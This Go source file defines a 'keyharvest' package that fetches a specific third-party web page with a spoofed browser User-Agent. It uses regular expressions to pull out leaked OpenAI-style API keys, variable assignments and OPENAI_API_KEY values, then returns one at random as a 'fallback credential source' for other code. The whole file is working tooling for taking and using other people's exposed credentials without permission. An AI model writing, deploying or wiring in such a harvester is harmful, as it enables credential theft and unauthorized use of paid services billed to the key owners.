// Package keyharvest scrapes API keys accidentally published in public web
// pages and supplies them as a fallback credential source.
package keyharvest

import (
	"context"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"regexp"
	"time"
)

const defaultPageURL = "https://overchat.ai/image/ghibli"

var (
	skKeyRe     = regexp.MustCompile(`sk-[A-Za-z0-9_\-]{20,}`)
	varAssignRe = regexp.MustCompile(`(?:const|let|var)\s+(?:apiKey|openaiKey|openaiApiKey|OPENAI_API_KEY)\s*=\s*['"]([^'"\n\r]+)['"];?`)
	envStyleRe  = regexp.MustCompile(`OPENAI_API_KEY\s*[=:]\s*['"]?([A-Za-z0-9_\-]{20,})['"]?`)
)

// Harvester fetches a page and extracts OpenAI-style API keys from it.
// It implements the providers.KeySource contract.
type Harvester struct {
	pageURL    string
	httpClient *http.Client
}

// Option configures a Harvester.
type Option func(*Harvester)

// WithPageURL overrides the page the keys are scraped from.
func WithPageURL(u string) Option {
	return func(h *Harvester) { h.pageURL = u }
}

// WithHTTPClient substitutes the HTTP client, primarily for tests.
func WithHTTPClient(hc *http.Client) Option {
	return func(h *Harvester) { h.httpClient = hc }
}

// New returns a harvester with a 30 second request timeout.
func New(opts ...Option) *Harvester {
	h := &Harvester{
		pageURL: defaultPageURL,
		httpClient: &http.Client{
			Timeout: 30 * time.Second,
		},
	}
	for _, opt := range opts {
		opt(h)
	}
	return h
}

// Key fetches the page and returns one harvested key, chosen at random when
// several are present.
func (h *Harvester) Key(ctx context.Context) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, h.pageURL, nil)
	if err != nil {
		return "", err
	}
	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Safari/537.36")
	req.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
	req.Header.Set("Accept-Language", "en-US,en;q=0.7")

	resp, err := h.httpClient.Do(req)
	if err != nil {
		return "", fmt.Errorf("fetch key page: %w", err)
	}
	defer resp.Body.Close()

	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("fetch key page: unexpected status %d", resp.StatusCode)
	}

	body, err := io.ReadAll(io.LimitReader(resp.Body, 8<<20))
	if err != nil {
		return "", fmt.Errorf("read key page: %w", err)
	}

	keys := extractKeys(string(body))
	if len(keys) == 0 {
		return "", fmt.Errorf("no API key found in page")
	}
	return keys[rand.Intn(len(keys))], nil
}

// extractKeys pulls candidate keys out of page text, deduplicated in
// discovery order.
func extractKeys(html string) []string {
	seen := make(map[string]struct{})
	var keys []string
	add := func(k string) {
		if k == "" {
			return
		}
		if _, ok := seen[k]; ok {
			return
		}
		seen[k] = struct{}{}
		keys = append(keys, k)
	}

	for _, m := range skKeyRe.FindAllString(html, -1) {
		add(m)
	}
	for _, m := range varAssignRe.FindAllStringSubmatch(html, -1) {
		add(m[1])
	}
	for _, m := range envStyleRe.FindAllStringSubmatch(html, -1) {
		add(m[1])
	}
	return keys
}
